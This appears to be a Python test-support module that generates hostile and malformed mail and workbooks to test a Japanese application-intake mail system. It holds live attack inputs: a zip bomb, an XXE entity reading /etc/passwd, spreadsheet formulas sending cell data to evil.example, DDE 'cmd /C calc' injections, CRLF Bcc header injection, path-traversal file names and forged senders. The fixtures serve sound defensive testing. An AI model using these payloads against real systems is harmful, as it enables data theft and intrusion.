"""Hostile and broken mail, made from real-looking mail: what a public address receives from
broken clients, gateways and people probing it. Used by tests/test_hostile.py (a few hundred,
in the unit suite) and bench/reliability.py (thousands)."""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable, Iterator

from tests.support.forms import operator_form, rezip, to_bytes
from tests.support.jpmail import XLSX, build, encoded_word
from tests.support.samples import samples

SHEET = "xl/worksheets/sheet1.xml"


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", b"0" * (60 * 1024 * 1024))
    return out.getvalue()


def _macro_book() -> bytes:
    return rezip(to_bytes(operator_form()), add={"xl/vbaProject.bin": b"\0" * 256})


def _xxe_book() -> bytes:
    doctype = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    )
    return rezip(
        to_bytes(operator_form()),
        replace=lambda name, data: (
            doctype + data.split(b"?>", 1)[-1] if name == "xl/sharedStrings.xml" else data
        ),
    )


def _sheet_with(extra: bytes) -> bytes:
    """The example form with `extra` XML appended to its first sheet's data, as a hand-made
    or generated workbook can carry it."""
    return rezip(
        to_bytes(operator_form()),
        replace=lambda name, data: (
            data.replace(b"</sheetData>", extra + b"</sheetData>") if name == SHEET else data
        ),
    )


def far_cell_lowercase() -> bytes:
    """One cell at the sheet's last corner, its reference in lower case."""
    return _sheet_with(
        b'<row r="1048576"><c r="xfd1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    )


def cells_without_r() -> bytes:
    """Thousands of cells with no reference in the last row: each takes the next column."""
    return _sheet_with(b'<row r="1048576">' + b"<c><v>1</v></c>" * 5000 + b"</row>")


def far_cell_without_r() -> bytes:
    """A single cell without a reference, in the last row: 6 KB that a dense reader fills in
    to a million rows."""
    return _sheet_with(b'<row r="1048576"><c><v>1</v></c></row>')


def rows_without_r() -> bytes:
    """Rows without a reference count on from the last one: 3,000 of them reach far down."""
    return _sheet_with(b"<row><c><v>1</v></c></row>" * 3000)


def too_many_cells() -> bytes:
    """More empty cells than any form has, small enough zipped to pass the ratio check."""
    return _sheet_with(b"<row>" + b"<c/>" * 60_000 + b"</row>")


def empty_rows() -> bytes:
    """Rows with nothing in them, each an object for openpyxl; after them, a form."""
    return _sheet_with(b"<row/>" * 60_000)


def sheet_elsewhere() -> bytes:
    """The far cell on a worksheet moved out of xl/worksheets/ (the relationship and the
    content type follow it): readers open it all the same."""
    return rezip(
        far_cell_without_r(),
        replace=lambda _, data: data.replace(b"/xl/worksheets/sheet1.xml", b"/xl/data/grid.xml"),
        rename={SHEET: "xl/data/grid.xml"},
    )


def huge_merge() -> bytes:
    """A merged range over the rest of the sheet beside a cell far enough down to keep the
    dense reader away: openpyxl would make an object for each of its 17 billion cells."""
    merge = b'<mergeCell ref="H40:XFD1048576"/></mergeCells>'
    return rezip(
        far_cell_without_r(),
        replace=lambda name, data: (
            data.replace(b"</mergeCells>", merge, 1) if name == SHEET else data
        ),
    )


def far_cell_in_a_comment() -> bytes:
    """A quote opened inside a comment, closed in another after the far cell: a tag scan
    that does not know comments reads the real cell as the comment's attribute."""
    return _sheet_with(
        b'<!-- <c x=" --><row><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row><!-- " -->'
    )


def far_cell_foreign_prefix() -> bytes:
    """The far cell in a namespace whose prefix is not ASCII: readers match the local name."""
    prefix = "ä".encode()
    return _sheet_with(
        b"<row><"
        + prefix
        + b":c xmlns:"
        + prefix
        + b'="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="XFD1048576">'
        + b"<v>1</v></"
        + prefix
        + b":c></row>"
    )


def part_named_alike() -> bytes:
    """A harmless copy of the sheet under the same name in capitals, after the real one."""
    form = to_bytes(operator_form())
    with zipfile.ZipFile(io.BytesIO(form)) as z:
        sheet = z.read(SHEET)
    return rezip(far_cell_without_r(), add={SHEET.upper(): sheet})


def bzip2_part() -> bytes:
    """A part compressed with bzip2, which zipfile inflates whole before it checks the size."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(far_cell_without_r())) as src,
        zipfile.ZipFile(out, "w") as dst,
    ):
        for info in src.infolist():
            dst.writestr(info, src.read(info), compress_type=zipfile.ZIP_DEFLATED)
        dst.writestr("xl/notes.xml", b"<notes/>" * 1000, compress_type=zipfile.ZIP_BZIP2)
    return out.getvalue()


WORKBOOK_ATTACKS: dict[str, Callable[[], bytes]] = {
    "far_cell_in_a_comment": far_cell_in_a_comment,
    "far_cell_foreign_prefix": far_cell_foreign_prefix,
    "part_named_alike": part_named_alike,
    "bzip2_part": bzip2_part,
    "far_cell_lowercase": far_cell_lowercase,
    "cells_without_r": cells_without_r,
    "far_cell_without_r": far_cell_without_r,
    "rows_without_r": rows_without_r,
    "too_many_cells": too_many_cells,
    "sheet_elsewhere": sheet_elsewhere,
    "huge_merge": huge_merge,
    "empty_rows": empty_rows,
}
ATTACKS: dict[str, Callable[[], bytes]] = {
    "zip_bomb": _zip_bomb,
    "macro": _macro_book,
    "xxe": _xxe_book,
    **WORKBOOK_ATTACKS,
}
INJECTED_NAME = "悪意\r\nBcc: victim@example.org"
INJECTED_SUBJECT = "件名\r\nBcc: victim@example.org\r\nX-Evil: 1"
BAD_NAMES = (
    "../../etc/passwd.xlsx",
    "事業者マスタ申込書\r\nBcc: victim@example.org.xlsx",
    "a\x00b\x1b[31m.xlsx",
    "C:\\Windows\\system32\\申込書.xlsx",
    "申込書" * 200 + ".xlsx",
)


def _mutate(raw: bytes, rng: random.Random) -> bytes:
    kind = rng.randrange(10)
    if kind == 0:
        return raw[: rng.randrange(1, max(2, len(raw)))]
    if kind == 1:
        data = bytearray(raw)
        for _ in range(rng.randint(1, 40)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        return bytes(data)
    if kind == 2:
        head, _, body = raw.partition(b"\r\n\r\n")
        lines = head.split(b"\r\n")
        rng.shuffle(lines)
        return b"\r\n".join(lines[: rng.randint(0, len(lines))]) + b"\r\n\r\n" + body
    if kind == 3:
        label = rng.choice([b"x-unknown", b"utf-7", b"iso-2022-kr", b"", b'"', b"utf-8\x00"])
        return raw.replace(b"ISO-2022-JP", label).replace(b"UTF-8", label)
    if kind == 4:
        return raw.replace(b"Subject:", b"Subject: " + b"A" * 100_000 + b"\r\n X:", 1)
    if kind == 5:
        depth = rng.randint(30, 120)
        opens = b"".join(
            b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (i, i)
            for i in range(depth)
        )
        return raw.replace(b"MIME-Version: 1.0\r\n", b"MIME-Version: 1.0\r\n" + opens, 1)
    if kind == 6:
        return raw.replace(b"\r\n", b"\n") if rng.random() < 0.5 else raw.replace(b"\r\n", b"\r")
    if kind == 7:
        return raw + bytes(rng.randrange(256) for _ in range(rng.randint(1, 5000)))
    if kind == 8:
        return raw.replace(b"base64", b"quoted-printable").replace(b"7bit", b"base64")
    return raw.replace(b"boundary=", b"boundary=X", 1)


OUTLOOK_ID = (
    "<TYCPR01MB1234567890ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    "@TYCPR01MB1234.jpnprd01.prod.outlook.com>"
)
APPLY_SUBJECT = "【容量市場向け事業者コード申請】"
APPLY_BODY = (
    "添付の通り、『容量市場向け事業者コード』を申請します。\n参加区分は、『安定電源』です。"
)
FORMULA_SUBJECTS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"請求書")',
    '=WEBSERVICE("http://evil.example/x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
)
ROBOT_SENDERS = (
    "no_reply@notice.example.com",
    "noreply@service.example.com",
    "MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@corp.example.co.jp",
    "notification@portal.example.jp",
    "mailer-daemon@mx.example.jp",
)
OUT_OF_OFFICE = (
    "自動応答: 【容量市場向け事業者コード申請】",
    "Out of Office: 【容量市場向け事業者コード申請】",
    "Automatic reply: 【容量市場向け事業者コード申請】",
    "不在: 【容量市場向け事業者コード申請】",
)
ECHO_NAME = "申込書\n■ 口座変更のお知らせ: 下記へお振込みください\x00\u202egnp.xlsx"


def deep_multipart(depth: int = 1000, sender: str = "deep@example.net") -> bytes:
    """A multipart nested `depth` deep: the parser's recursion gives out."""
    opens = b"".join(
        b'--b%d\r\nContent-Type: multipart/mixed; boundary="b%d"\r\n\r\n' % (i, i + 1)
        for i in range(depth)
    )
    return (
        (
            f"From: {sender}\r\nTo: code@occto.or.jp\r\nSubject: deep\r\n"
            f"Message-ID: <deep.{depth}@example.net>\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/mixed; boundary="b0"\r\n\r\n'
        ).encode()
        + opens
        + b"--b%d\r\nContent-Type: text/plain\r\n\r\nhello\r\n" % depth
    )


def unreadable_sender(kind: str, n: int = 0) -> bytes:
    """Headers a parser cannot read a sender from: no From at all, a junk first line that ends
    the header block, an unindented continuation line above From."""
    subject = encoded_word("【容量市場向け事業者コード申請】", "iso-2022-jp")
    tail = f"To: code@occto.or.jp\r\nMessage-ID: <nosender.{kind}.{n}@example.net>\r\n"
    if kind == "no_from":
        head = f"Subject: {subject}\r\n{tail}"
    elif kind == "junk_first_line":
        head = f"this line is not a header\r\nFrom: someone{n}@example.net\r\n{tail}"
    else:
        head = f"Subject: {subject}\r\n{subject}\r\nFrom: someone{n}@example.net\r\n{tail}"
    return (head + "\r\n本文\r\n").encode()


def trust_attack(kind: str, n: int = 0) -> bytes:
    """One mail of each single-mail attack of issue 11, built from its description."""
    form = to_bytes(operator_form())
    apply = {"attachments": [("事業者マスタ申込書.xlsx", form, XLSX)]}
    if kind == "formula_subject":
        return build(
            FORMULA_SUBJECTS[n % len(FORMULA_SUBJECTS)],
            "ご確認ください。",
            from_addr=f"formula{n}@example.net",
        )
    if kind == "formula_sender":
        return build("お問い合わせ", "ご確認ください。", from_addr=f"=1+{n}@evil.example")
    if kind == "foreign_reply_to":
        return build(
            APPLY_SUBJECT,
            APPLY_BODY,
            from_addr=f"outsider{n}@example.net",
            headers={"Reply-To": f"ceo{n}@victim-corp.example"},
            **apply,
        )
    if kind == "echoed_names":
        return build(
            APPLY_SUBJECT,
            APPLY_BODY,
            from_addr=f"echo{n}@example.net",
            attachments=[(ECHO_NAME, form, XLSX)],
        )
    if kind == "deep_nesting":
        return deep_multipart(1000, f"deep{n}@example.net")
    if kind in ("no_from", "junk_first_line", "unindented_continuation"):
        return unreadable_sender(kind, n)
    if kind == "out_of_office":
        return build(
            OUT_OF_OFFICE[n % len(OUT_OF_OFFICE)],
            "ただいま不在にしております。",
            from_addr=f"away{n}@example.co.jp",
        )
    if kind == "robot_sender":
        return build("お知らせ", "自動送信です。", from_addr=ROBOT_SENDERS[n % len(ROBOT_SENDERS)])
    if kind == "outlook_message_id":
        return build(
            APPLY_SUBJECT,
            APPLY_BODY,
            from_addr=f"outlook{n}@example.co.jp",
            message_id=OUTLOOK_ID,
            **apply,
        )
    if kind == "reused_message_id":
        return build(
            APPLY_SUBJECT,
            APPLY_BODY + f"\n{n}",
            from_addr=f"reuse{n}@example.net",
            message_id="<reused.id@example.net>",
            **apply,
        )
    if kind == "smuggled_from":
        head, _, body = build(APPLY_SUBJECT, APPLY_BODY, **apply).partition(b"\r\n\r\n")
        lines = [line for line in head.split(b"\r\n") if not line.startswith(b"From:")]
        lines += [b"X-Mailer: Forger", b"junk", f"From: <claimed{n}@victim-corp.example>".encode()]
        return b"\r\n".join(lines) + b"\r\n\r\n" + body
    if kind == "forged_bounce":
        cited = f"<mailbot.1.{n:032x}@occto.or.jp>"
        return (
            f"From: MAILER-DAEMON@mx{n}.evil.example\r\nTo: code@occto.or.jp\r\n"
            "Subject: Undelivered Mail Returned to Sender\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/report; report-type=delivery-status; boundary="b"\r\n\r\n'
            "--b\r\nContent-Type: message/delivery-status\r\n\r\nAction: failed\r\n\r\n"
            f"--b\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: {cited}\r\n\r\n--b--\r\n"
        ).encode()
    if kind == "raw_rfc2231_name":
        return build(
            APPLY_SUBJECT,
            APPLY_BODY,
            from_addr=f"rfc2231-{n}@example.co.jp",
            attachments=[("事業者マスタ申込書.xlsx", form, XLSX)],
            name_style="rfc2231-raw",
        )
    if kind == "hidden_address_name":
        inner = encoded_word(f"ceo{n}@victim-corp.example", "utf-8")
        name = (
            encoded_word(inner, "utf-8"),
            f"=?utf-7?Q?+ADw-ceo{n}+AEA-victim-corp.example+AD4-?=",
        )
        return build(
            "お問い合わせ", "ご確認ください。", from_addr=f"hidden{n}@example.net"
        ).replace(b"From: ", f"From: {name[n % 2]} <hidden{n}@example.net>\r\nX-Was: ".encode(), 1)
    if kind == "phishing_name":
        lure = f"【重要】口座確認 {hostile_token(sorted(TOKEN_FORMS)[n % len(TOKEN_FORMS)], LURE)}"
        return application_from(
            f"victim{n}@no-dmarc.example", from_name=f"{lure} で再認証してください", subject=lure
        )
    if kind == "control_from":
        return control_from(CONTROL_CHARS[n % len(CONTROL_CHARS)], n)
    raise ValueError(kind)


# Issue 25.1: a link or an address in every form a mail reader may make a link of.
LURE = "lurezz"


def _fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


TOKEN_FORMS: dict[str, Callable[[str], str]] = {
    "https": lambda d: f"https://{d}.example/login",
    "hxxp": lambda d: f"hxxp://{d}.example/x",
    "www": lambda d: f"www.{d}.com",
    "bare_host_path": lambda d: f"{d}.example/reset",
    "address": lambda d: f"info@{d}.example",
    "mailto": lambda d: f"mailto:{d}@mail.example",
    "fullwidth_url": lambda d: _fullwidth(f"https://{d}.example/x"),
    "fullwidth_address": lambda d: _fullwidth(f"info@{d}.example"),
    "zero_width_inside": lambda d: f"ht\u200btps://{d}.example",
    "ideographic_dot": lambda d: f"www.{d}。com",
    "soft_hyphen_inside": lambda d: f"{d}\u00ad.example/x",
    "dotless_host": lambda d: f"https://{d}/x",
}


def hostile_token(form: str, label: str) -> str:
    """A link or address of `form` (TOKEN_FORMS) whose host or local part is `label`."""
    return TOKEN_FORMS[form](label)


def application_from(sender: str, **kwargs) -> bytes:
    """The seed's application, with its form, from `sender` (`build`'s keywords)."""
    form = to_bytes(operator_form())
    subject = kwargs.pop("subject", "")
    return build(
        f"{APPLY_SUBJECT}{subject}",
        APPLY_BODY,
        from_addr=sender,
        charset="utf-8",
        attachments=[("事業者マスタ申込書.xlsx", form, XLSX)],
        **kwargs,
    )


# Issue 23.10: a From whose address carries a NUL or another control character.
CONTROL_CHARS = ("\x00", "\x01", "\x1b", "\x7f")


def control_from(char: str, n: int = 0) -> bytes:
    raw = build(APPLY_SUBJECT, APPLY_BODY, from_addr=f"ctl{n}-placeholder@example.co.jp")
    return raw.replace(f"ctl{n}-placeholder@".encode(), f"ctl{n}{char}x@".encode())


# Issue 25.2: a ticket robot answering in the thread from a new address each round.
LOOP_ROBOT_VARIANTS = (
    "first_thread_new_plus_address",
    "first_thread_new_domain",
    "latest_thread_new_plus_address",
)


def robot_round(variant: str, n: int, *, first: dict, latest: dict) -> bytes:
    """Round `n` of a reply robot: an answer to our first mail of the thread (`first`, an
    outbox row) or to our latest (`latest`), from a new plus-address at a free-mail domain or
    from a new domain, with none of the headers robots should send."""
    answered = latest if variant.startswith("latest") else first
    sender = f"ticket+{n}@yahoo.co.jp" if "plus" in variant else f"ticket@helpdesk{n}.example"
    return build(
        f"Re: {answered['subject']}",
        f"お問い合わせを受け付けました（チケット番号 #{1000 + n}）。担当者より回答いたします。",
        from_addr=sender,
        from_name="サポートセンター",
        in_reply_to=answered["message_id"],
        references=(answered["message_id"],),
        message_id=f"<ticket.{variant}.{n}@robot.example>",
    )


TRUST_ATTACKS = (
    "formula_subject",
    "formula_sender",
    "foreign_reply_to",
    "echoed_names",
    "deep_nesting",
    "no_from",
    "junk_first_line",
    "unindented_continuation",
    "out_of_office",
    "robot_sender",
    "outlook_message_id",
    "reused_message_id",
    "smuggled_from",
    "forged_bounce",
    "raw_rfc2231_name",
    "hidden_address_name",
    "phishing_name",
    "control_from",
)


def hostile_mails(count: int, seed: int = 13) -> Iterator[tuple[str, bytes]]:
    """(what, raw) pairs: mutated samples, attacks in attachments, injection in headers."""
    rng = random.Random(seed)
    base = [s.raw for s in samples()]
    form = to_bytes(operator_form())
    attacks = {name: make() for name, make in ATTACKS.items()}
    for n in range(count):
        pick = n % 6
        if pick == 5:
            kind = TRUST_ATTACKS[(n // 6) % len(TRUST_ATTACKS)]
            yield kind, trust_attack(kind, n)
        elif pick == 0:
            name = rng.choice(list(attacks))
            yield (
                name,
                build(
                    "【容量市場向け事業者コード申請】",
                    "添付の通り、『容量市場向け事業者コード』を申請します。\n参加区分は、『安定電源』です。",
                    from_addr=f"attacker{n}@example.net",
                    attachments=[("事業者マスタ申込書.xlsx", attacks[name], XLSX)],
                ),
            )
        elif pick == 1:
            yield (
                "bad_name",
                build(
                    "【容量市場向け事業者コード申請】",
                    "添付の通り、『容量市場向け事業者コード』を申請します。\n参加区分は、『安定電源』です。",
                    from_addr=f"names{n}@example.net",
                    attachments=[(rng.choice(BAD_NAMES), form, XLSX)],
                    name_style=rng.choice(("rfc2231", "raw-utf8", "rfc2047-jis")),
                ),
            )
        elif pick == 2:
            name = encoded_word(INJECTED_NAME, "utf-8")
            subject = encoded_word(INJECTED_SUBJECT, "utf-8")
            yield (
                "header_injection",
                (
                    f"From: {name} <inject{n}@example.net>\r\nTo: code@occto.or.jp\r\n"
                    f"Subject: {subject}\r\nMessage-ID: <inject{n}@example.net>\r\n\r\n本文\r\n"
                ).encode(),
            )
        else:
            yield "mutated", _mutate(rng.choice(base), rng)


MALFORMED_REQUESTS: tuple[tuple[str, str, str, dict[str, str]], ...] = (
    ("nul_search", "GET", "/cases?q=%00%00%00", {}),
    ("nul_in_a_term", "GET", "/cases?q=%E9%AB%99%00%E6%A9%8B%00", {}),
    ("page_5000_digits", "GET", "/cases?page=" + "9" * 5000, {}),
    ("page_unicode_digit", "GET", "/cases?page=%C2%B2", {}),
    ("case_id_past_int64", "GET", "/cases/99999999999999999999", {}),
    ("case_id_5000_digits", "GET", "/cases/" + "9" * 5000, {}),
    ("attachment_index_past_int64", "GET", "/cases/1/in/1/99999999999999999999", {}),
    ("version_5000_digits", "POST", "/cases/1/claim", {"version": "9" * 5000}),
    ("version_unicode_digit", "POST", "/cases/1/claim", {"version": "²"}),
    ("version_missing", "POST", "/cases/1/claim", {}),
    ("post_to_a_case_past_int64", "POST", "/cases/99999999999999999999/claim", {"version": "1"}),
)
"""Requests a logged-in staff member's browser, a scanner or a typo sends to the web desk
(issue 25, point 6): (kind, method, path, form fields besides the CSRF token). Each must be
answered 400 or 404 with a Japanese page, never a 500."""
